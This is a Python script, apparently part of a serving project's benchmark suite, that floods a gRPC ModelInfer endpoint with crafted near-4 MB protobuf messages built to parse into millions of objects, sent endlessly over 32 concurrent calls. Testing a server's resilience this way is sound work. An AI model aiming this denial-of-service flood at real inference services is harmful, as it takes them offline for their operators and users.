"""Messages of 4 MB that gRPC parses into millions of objects: an attack of `python -m benchmarks attacks`."""

import asyncio
import sys
from itertools import cycle

import grpc

from serve_app.inference_protocol import open_inference_pb2 as messages

CALLS = 32
"""Calls in progress."""
INFER = "/inference.GRPCInferenceService/ModelInfer"
SIZE = 4 * 2**20 - 4096


def bodies() -> list[bytes]:
    """Messages to the served league of nearly the size limit, each with as many parts of one kind as fit."""
    start = messages.ModelInferRequest(model_name="connect_four").SerializeToString()
    floats = messages.InferTensorContents(fp32_contents=[0.0] * (SIZE // 4)).SerializeToString()
    contents = _field(5, _field(5, floats[: len(floats)]))
    return [
        start + SIZE // 2 * b"\x2a\x00",  # inputs
        start + SIZE // 2 * b"\x32\x00",  # outputs
        start + SIZE // 2 * b"\x3a\x00",  # raw contents
        start + SIZE // 2 * b"\x22\x00",  # parameters, all with the key ""
        start + b"".join(_field(4, _field(1, b"%d" % number)) for number in range(SIZE // 12)),  # parameters
        start + _field(5, SIZE // 2 * b"\x22\x00"),  # parameters of an input
        start + _field(5, b"\x18\x01" * (SIZE // 2)),  # dimensions of an input
        start + contents,
        start + _field(5, _field(5, SIZE // 2 * b"\x42\x00")),  # elements of type bytes
        start + SIZE // 2 * b"\x78\x01",  # unknown fields
        b"\x0b" * SIZE,  # nested groups
    ]


def _field(number: int, content: bytes) -> bytes:
    """A field with a length, as the wire format encodes it."""
    length, size = b"", len(content)
    while size > 127:
        length += bytes([size & 127 | 128])
        size >>= 7
    return bytes([number << 3 | 2]) + length + bytes([size]) + content


async def attack(address: str, token: str) -> None:
    """Send the messages again and again."""
    metadata = [("x-api-key", token)] if token else []
    to_send = cycle(bodies())
    options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]

    async def keep_sending() -> None:
        async with grpc.aio.insecure_channel(address, options) as channel:
            call = channel.unary_unary(INFER)
            while True:
                try:
                    await call(next(to_send), metadata=metadata, timeout=30)
                except grpc.RpcError:
                    await asyncio.sleep(0.01)

    print("started", flush=True)
    await asyncio.gather(*(keep_sending() for _ in range(CALLS)))


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[2], sys.argv[3]))
